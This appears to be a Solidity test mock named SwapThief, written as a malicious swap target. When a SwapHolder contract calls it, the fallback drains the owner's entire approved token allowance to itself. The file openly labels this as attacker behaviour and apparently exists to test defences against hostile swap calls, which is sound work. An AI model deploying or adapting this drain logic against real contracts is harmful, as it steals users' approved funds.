// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {SwapHolder} from "./SwapHolder.sol";

/// @title SwapThief
/// @notice What an attacker would have a swap call: whatever it is asked to do, it takes all that the caller was approved to take.
contract SwapThief {
    address public immutable token;

    constructor(address token_) {
        token = token_;
    }

    fallback() external payable {
        address owner = address(bytes20(msg.data[msg.data.length - 20:]));
        uint256 amount = IERC20(token).allowance(owner, msg.sender);
        SwapHolder(msg.sender).transferFrom(token, owner, address(this), amount);
    }
}
